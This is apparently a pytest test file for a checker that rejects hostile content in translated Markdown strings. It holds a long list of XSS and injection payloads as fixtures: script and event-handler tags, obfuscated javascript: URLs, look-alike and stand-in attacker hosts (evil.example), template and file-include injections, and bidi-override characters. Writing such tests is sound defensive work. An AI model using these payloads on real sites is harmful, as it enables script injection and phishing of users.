# SPDX-License-Identifier: Apache-2.0
"""A translation is untrusted input: every way found to say more than words must be an error."""

from __future__ import annotations

import pytest
from entries import check, errors

PLAIN = "Pay the fee at the counter."
LINK = "Fill in [the form](https://english.beijing.gov.cn/form) first."
CODE = "Hand in form `JW202` with your passport."
IMAGE = "![A map of the office](map.png)"
FOOTNOTE = "The fee is due at once.[^1]"
RAW = 'See <span class="note">the note</span> below.'

# what it tries, source, translation, whether it could harm (and so stops the build)
HOSTILE = [
    ("script element", PLAIN, "Pague <script>alert(1)</script> la tasa.", True),
    ("script in upper case", PLAIN, "Pague <ScRiPt src=//evil.example></sCrIpT> la tasa.", True),
    ("unclosed script", PLAIN, "Pague la tasa <script src=x", True),
    ("image with an error handler", PLAIN, "Pague <img src=x onerror=alert(1)> la tasa.", True),
    ("svg with a load handler", PLAIN, "Pague <svg/onload=alert(1)> la tasa.", True),
    ("frame", PLAIN, 'Pague <iframe src="https://evil.example"></iframe>', True),
    ("form", PLAIN, '<form action="https://evil.example"><input name="passport"></form>', True),
    ("meta refresh", PLAIN, '<meta http-equiv="refresh" content="0;url=https://evil.example">Pague', True),
    ("base address", PLAIN, '<base href="https://evil.example/">Pague', True),
    ("style element", PLAIN, "Pague <style>body{display:none}</style>", True),
    ("object", PLAIN, '<object data="evil.swf"></object>Pague', True),
    ("embed", PLAIN, '<embed src="evil.swf">Pague', True),
    ("link element", PLAIN, '<link rel="stylesheet" href="//evil.example/a.css">Pague', True),
    ("new link in plain text", PLAIN, "Pague [aquí](https://evil.example/pay).", True),
    ("new relative link", PLAIN, "Pague [aquí](pay.md).", True),
    ("script address", LINK, "Rellene [el formulario](javascript:alert(1)) primero.", True),
    ("script address in mixed case", LINK, "Rellene [el formulario](JaVaScRiPt:alert(1)) primero.", True),
    ("script address split by an entity", LINK, "Rellene [el formulario](java&#x09;script:alert(1)).", True),
    ("script address split by a named entity", LINK, "Rellene [el formulario](java&NewLine;script:x).", True),
    ("script address with an entity colon", LINK, "Rellene [el formulario](javascript&colon;alert(1)).", True),
    ("data address", LINK, "Rellene [el formulario](data:text/html;base64,PHNjcmlwdD4=).", True),
    ("vbscript address", LINK, "Rellene [el formulario](vbscript:msgbox(1)).", True),
    ("script address in an autolink", PLAIN, "Pague <javascript:alert(1)> la tasa.", True),
    ("attribute list with a handler", LINK, LINK.replace(")", "){onclick=alert(1)}"), True),
    ("attribute list that replaces the target", LINK, LINK.replace(")", "){href=javascript:alert(1)}"), True),
    ("attribute list that covers the page", LINK, LINK.replace(")", '){style="position:fixed;inset:0"}'), True),
    ("attribute list that takes an anchor", "## Fees", "## Tasas {#apply}", True),
    ("attribute list with a colon", "**Fees** apply.", "**Tasas**{: .hidden} se aplican.", True),
    ("attribute list on a second line", PLAIN, "Pague la tasa.\n{: onclick=alert(1) }", True),
    ("Markdown in HTML with a handler", PLAIN, "<div markdown onclick=alert(1)>Pague</div>", True),
    ("added attribute on the source's tag", RAW, RAW.replace(">the", " onmouseover=alert(1)>la"), True),
    ("other class on the source's tag", RAW, RAW.replace('"note"', '"md-banner"'), True),
    ("reference hijack", PLAIN, "[apply]: https://evil.example", True),
    ("reference hijack after text", PLAIN, "Pague la tasa.\n\n[apply]: https://evil.example", True),
    ("tooltip on every use of a word", PLAIN, "*[tax]: Pay to evil.example", True),
    ("footnote definition", FOOTNOTE, "[^1]: Pague en otro sitio", True),
    ("bare address", PLAIN, "Pague la tasa en https://evil.example/pay ahora.", True),
    ("bare www address", PLAIN, "Pague la tasa en www.evil.example ahora.", True),
    ("mail address", PLAIN, "Pague la tasa a pay@evil.example ahora.", True),
    ("declaration", PLAIN, "Pague la tasa <!x", True),
    ("marked section", PLAIN, "Pague la tasa <![x", True),
    ("end of nothing", PLAIN, "Pague la tasa </%x", True),
    ("table of contents", PLAIN, "[TOC]", True),
    ("file of the repository", PLAIN, '--8<-- "SECRET.txt"', True),
    ("file of the repository, long form", PLAIN, "-----8<----- SECRET.txt", True),
    ("template code", PLAIN, "Pague {{ config.secret }} la tasa.", True),
    ("template statement", PLAIN, "Pague {% include 'secret' %} la tasa.", True),
    ("comment", PLAIN, "Pague <!-- la tasa", True),
    ("CDATA", PLAIN, "Pague <![CDATA[x]]> la tasa", True),
    ("processing instruction", PLAIN, "Pague <?php x ?> la tasa", True),
    ("start of text and wrong stash number", PLAIN, "Pague \x02wzxhzdk:0\x03 la tasa.", True),
    ("control character", PLAIN, "Pague la\x08 tasa.", True),
    ("bidirectional override", PLAIN, "Pague la \u202etasa\u202c.", True),
    ("bidirectional isolate", PLAIN, "Pague la \u2067tasa\u2069.", True),
    ("invisible tag characters", PLAIN, "Pague la tasa\U000e0041.", True),
    ("another host", LINK, "Rellene [el formulario](https://english.beijing.gov.cn.evil.example/form).", True),
    ("host behind an at sign", LINK, "[El formulario](https://english.beijing.gov.cn@evil.example/form)", True),
    ("look-alike host", LINK, "Rellene [el formulario](https://english.bеijing.gov.cn/form) primero.", True),
    ("host without a scheme", LINK, "Rellene [el formulario](//evil.example/form) primero.", True),
    ("host behind backslashes", LINK, "Rellene [el formulario](\\\\\\\\evil.example/form) primero.", True),
    ("weaker scheme", LINK, "Rellene [el formulario](http://english.beijing.gov.cn/form) primero.", True),
    ("image from elsewhere", IMAGE, "![Plano](https://evil.example/pixel.png)", True),
    ("image added", PLAIN, "Pague la tasa ![](https://evil.example/pixel.png)", True),
    ("second block", PLAIN, "Pague la tasa.\n\n# Otra sección", False),
    ("fenced block", PLAIN, "Pague la tasa.\n```\ncode\n```", True),
    ("list item", PLAIN, "Pague la tasa.\n1. Otra", False),
    ("rule", PLAIN, "Pague la tasa.\n---", True),
    ("admonition", PLAIN, "!!! danger", True),
    ("container block", PLAIN, "::: evil.module", True),
    ("generic block", PLAIN, "/// html | div[onclick=alert(1)]", True),
    ("formula", PLAIN, "Pague $$\\href{javascript:alert(1)}{x}$$", True),
    ("other page of the same host", LINK, "[El formulario](https://english.beijing.gov.cn/other)", False),
    ("link lost", LINK, "Rellene el formulario primero.", False),
    ("link taken apart", LINK, "Rellene [el formulario] (https://english.beijing.gov.cn/form) primero.", False),
    ("code changed", CODE, "Entregue el formulario `JW201` con su pasaporte.", False),
    ("code added", PLAIN, "Pague la `tasa` en la caja.", False),
    ("direction wrapper with a handler", PLAIN, "Pague <span dir=ltr onclick=alert(1)>la</span> tasa.", True),
    ("direction wrapper around HTML", PLAIN, "Pague <bdi><script>alert(1)</script></bdi> tasa.", True),
    ("code lost", CODE, "Entregue el formulario con su pasaporte.", False),
    ("footnote lost", FOOTNOTE, "La tasa se paga enseguida.", False),
    ("emphasis left over", "**Bring** your passport.", "** Traiga** su pasaporte.", False),
    ("endless text", PLAIN, "Pague " * 400, True),
    ("20,000 brackets", PLAIN, "[" * 20_000, True),
    ("5,000 images", PLAIN, "![a](" * 5_000, True),
    ("nested emphasis within the length limit", PLAIN, "*_" * 140, True),
    ("nested quotations", PLAIN, "> " * 140, True),
]  # fmt: skip


@pytest.mark.parametrize(
    ("msgid", "msgstr", "security"), [row[1:] for row in HOSTILE], ids=[row[0] for row in HOSTILE]
)
def test_what_is_more_than_words_is_an_error(msgid: str, msgstr: str, security: bool) -> None:
    found = errors(check(msgid, msgstr))
    assert found, "nothing was found"
    assert any(finding.security for finding in found) is security, [str(finding) for finding in found]


@pytest.mark.parametrize("row", HOSTILE, ids=[row[0] for row in HOSTILE])
def test_drafts_are_checked_as_strictly(row: tuple[str, str, str, bool]) -> None:
    assert errors(check(row[1], row[2], fuzzy=True))


@pytest.mark.parametrize("kind", ["navigation", "front matter", "attribute", "html", "title", "heading"])
@pytest.mark.parametrize(
    "msgstr",
    ["Tasas <script>alert(1)</script>", "Tasas <img src=x onerror=alert(1)>", 'Tasas" onmouseover="alert(1)'],
)
def test_every_kind_of_message_is_guarded(kind: str, msgstr: str) -> None:
    found = errors(check("Fees", msgstr, extracted_comments=(kind,)))
    assert any(finding.security for finding in found)


@pytest.mark.parametrize("comments", [("front matter", "heading"), ("heading", "front matter"), ()])
def test_a_title_that_is_a_heading_too_is_judged_as_markdown(comments: tuple[str, ...]) -> None:
    found = errors(check("Fees", "[Tasas](../evil/)", extracted_comments=comments))
    assert "structure.url" in {finding.check for finding in found}


@pytest.mark.parametrize("msgstr", ["[" * 15_000, "![a](" * 3_000, "`" * 15_000, "<" * 15_000, "*_" * 7_000])
def test_no_text_can_hang_a_check(msgstr: str) -> None:
    long_source = "A long but honest paragraph about fees. " * 100
    assert errors(check(long_source, msgstr))


def test_allowed_links_may_take_the_place_of_the_sources() -> None:
    german = "https://german.beijing.gov.cn/form"
    msgstr = f"Füllen Sie zuerst [das Formular]({german}) aus."
    assert errors(check(LINK, msgstr, "de"))
    assert not check(LINK, msgstr, "de", allowed_links=(german,))


@pytest.mark.parametrize(
    "text",
    [
        '--8<-- "terms.txt"',
        "{{ fee }} yuan",
        "Price: $$x$$",
        "<img src=x onerror=alert(1)>",
        "A <!-- note --> here",
        "[a](javascript:void(0))",
        "Line one\nline two",
        "\u2067isolated\u2069",
        'Call <span dir="ltr">+86 10 6561 2345</span>',
    ],
)
def test_what_the_source_has_the_translation_may_have(text: str) -> None:
    assert not errors([finding for finding in check(text, text) if finding.check.startswith("structure")])
